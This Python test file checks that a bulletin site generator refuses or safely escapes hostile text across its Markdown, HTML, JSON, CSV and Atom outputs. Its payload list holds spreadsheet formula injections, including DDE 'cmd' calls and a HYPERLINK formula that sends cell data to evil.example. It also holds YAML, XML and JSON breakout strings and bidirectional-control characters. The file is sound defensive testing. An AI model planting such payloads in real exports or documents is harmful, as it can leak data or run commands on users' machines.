"""Every published format carries any text an editor can type, or `check` refuses it by line.

For each text field the data model has (every one, through `hostile_report`): a text with a
character that has no place in a report is refused with file:line:col and the field; any
other text reaches every format intact and inert: the Markdown and its front matter, the
HTML it becomes, JSON, CSV (no cell a spreadsheet evaluates) and the Atom feed (XML 1.0).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mkdocs.utils.meta import get_data

from generator import Paths, load_bulletin
from generator.chinese import converter, foreign
from generator.model import _UNWANTED
from generator.opendata import FORMULA_START, PROJECT_FIELDS, data_files
from generator.pages import render_pages
from generator.settings import Settings
from tests.conftest import TEMPLATES, write
from tests.test_escaping import SAFE_TAGS, _mkdocs_markdown, collapse, parse, write_hostile_data

# What editors have typed or pasted, and what an attacker would try.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"點擊")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "---\ntitle: injected\n---",
    'title: "x"\nlayout: evil',
    "# 標題\n\n* 列表\n\n| a | b |\n|---|---|\n| c | d |",
    "<![CDATA[ x ]]> ]]> <!-- c --> &lt; &#0; &#x1;",
    "</title></feed><entry><title>假</title>",
    '"}, "injected": {"',
    "巡" * 5_000,  # a very long name (in every field: the file stays under the 1 MB limit)
    "ｔｉａｎ\u200bcheng 〇 ① ㊀ \U0001f3d7 \ufeff 𠀋 é",
    "line\u0085next",  # NEL: a line end in YAML 1.1
]
REJECTED_TEXTS = {
    "bell \x07": "U+0007 (control character)",
    "null \x00": "U+0000 (control character)",
    "escape \x1b[31m": "U+001B (control character)",
    "rtl \u202eevil": "U+202E (bidirectional text control)",
    "isolate \u2066x\u2069": "U+2066 (bidirectional text control)",
    "separator \u2028": "U+2028 (line separator)",
    "noncharacter \uffff": "U+FFFF (noncharacter)",
    "surrogate \ud800": "invalid Unicode character escape",  # YAML itself refuses it
    "line\u0085next": "U+0085 (control character)",
}
ODD_IDS = [
    "ｔiancheng",
    "tianchéng",
    "tian\u200bcheng",
    "tian cheng",
    "Tiancheng",
    "tian_cheng",
    "tiancheng\n",
    "-tiancheng",
    "tiancheng-",
    "tian--cheng",
    "\u212aelvin",
    "x" * 81,
]


def published(root) -> dict[str, str]:
    """Every page (Markdown) and open-data file the data gives, without building the site."""
    bulletin, problems = load_bulletin(Paths(root))
    assert bulletin is not None, [p.text() for p in problems]
    files = render_pages(bulletin, TEMPLATES)
    files.update(data_files(bulletin, Settings(site_url="https://bulletin.example.org/")))
    return files


def assert_every_format_carries(files: dict[str, str], text: str) -> None:
    md = _mkdocs_markdown()
    for rel in ("reports/tiancheng/2005-q1.md", "projects/hostile-project.md"):
        body, meta = get_data(files[rel])  # the front matter, as MkDocs reads it
        assert set(meta) == {"title", "search"}
        assert html.unescape(meta["title"]) == in_page_script(text)
        # the search filters: the same text, as strings (the theme escapes them)
        assert in_page_script(text) in meta["search"].values(), meta["search"]
        assert all(isinstance(v, str) for v in meta["search"].values())
        parsed = parse(md.reset().convert(body))
        assert {t for t, _ in parsed.tags} <= SAFE_TAGS
        links = [a["href"] for t, a in parsed.tags if t == "a"]
        assert all(h.endswith((".md", ".json")) and ":" not in h for h in links), links
        assert collapse(text) in collapse("".join(parsed.text))
    report = json.loads(files["data/reports/tiancheng/2005-q1.json"])
    assert report["title"] == text and report["problems"] == [text]
    rows = list(csv.DictReader(io.StringIO(files["data/projects.csv"].removeprefix("\ufeff"))))
    strings = [name for name, kind, _ in PROJECT_FIELDS if kind == "string"]
    assert all(not row[f].startswith(FORMULA_START) for row in rows for f in strings)
    name = rows[0]["name"]
    assert name == ("'" + text if text.startswith(FORMULA_START) else text)
    figures = list(csv.DictReader(io.StringIO(files["data/figures.csv"].removeprefix("\ufeff"))))
    assert all(
        not v.startswith(FORMULA_START)
        for row in figures
        for k, v in row.items()
        if k in ("label", "share_of", "period_label")
    )
    feed = ET.fromstring(files["feed.xml"].encode("utf-8"))  # XML 1.0 parses it
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = [e.findtext("a:title", namespaces=ns) for e in feed.findall("a:entry", ns)]
    assert titles == [text.replace("\r\n", "\n")]
    json.loads(files["data/oc4ids.json"])
    json.loads(files["data/bulletin.json"])


@pytest.mark.parametrize(
    "text", [t for t in HOSTILE_TEXTS if not _UNWANTED.search(t)], ids=lambda t: repr(t[:24])
)
def test_hostile_text_is_carried_safely_by_every_format(tmp_path, text):
    write_hostile_data(tmp_path, text)
    assert_every_format_carries(published(tmp_path), text)


@pytest.mark.parametrize("text, what", REJECTED_TEXTS.items(), ids=lambda t: repr(t[:12]))
def test_characters_with_no_place_in_a_report_are_refused_by_line(tmp_path, capsys, text, what):
    from generator.__main__ import main

    write_hostile_data(tmp_path, text)
    assert main(["--root", str(tmp_path), "check"]) == 1
    out = capsys.readouterr().err.splitlines()
    errors = [ln for ln in out if re.match(r"^data/\S+\.yaml:\d+:\d+: ", ln)]
    assert errors and all(what in ln for ln in errors), out
    if not what.startswith("U+"):
        return  # a YAML syntax error stops the file at its first one
    # every text field is named, each on its own line
    fields = {re.match(r"^\S+:\d+:\d+: (\S+):", ln).group(1) for ln in errors}
    assert {
        "title",
        "issuer",
        "projects[0].name",
        "figures[0].quote",
        "regions[0].name",
        "measures[0].paragraphs[0]",
        "period.label",
        "source.parts[0]",
    } <= fields


@pytest.mark.parametrize("odd", ODD_IDS, ids=repr)
def test_odd_unicode_in_ids_is_refused(tmp_path, capsys, odd):
    from generator.__main__ import main

    write_hostile_data(tmp_path, "清水")
    path = tmp_path / "data/reports/tiancheng/2005-q1.yaml"
    data = yaml.safe_load(path.read_text("utf-8"))
    data["projects"][0]["id"] = odd
    write(path, yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    assert main(["--root", str(tmp_path), "check"]) == 1
    err = capsys.readouterr().err
    assert re.search(r"2005-q1\.yaml:\d+:\d+: projects\[0\]\.id: ", err), err


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.text(st.characters(codec=None), min_size=1, max_size=30).filter(lambda s: s.strip()))
def test_any_text_in_every_field_is_refused_or_carried_by_every_format(tmp_path_factory, text):
    root = tmp_path_factory.mktemp("formats")
    write_hostile_data(root, text)
    bulletin, problems = load_bulletin(Paths(root))
    if _UNWANTED.search(text):
        assert bulletin is None
        assert problems and all(
            re.match(r"^data/\S+\.yaml:\d+:\d+: \S", p.text()) for p in problems
        )
        return
    assert bulletin is not None, [p.text() for p in problems]
    assert_every_format_carries(published(root), text)


def in_page_script(text: str) -> str:
    """Data text as a page in Traditional shows it: converted where it is in Simplified."""
    return converter("s2t").convert(text) if foreign(text, "hant") else text
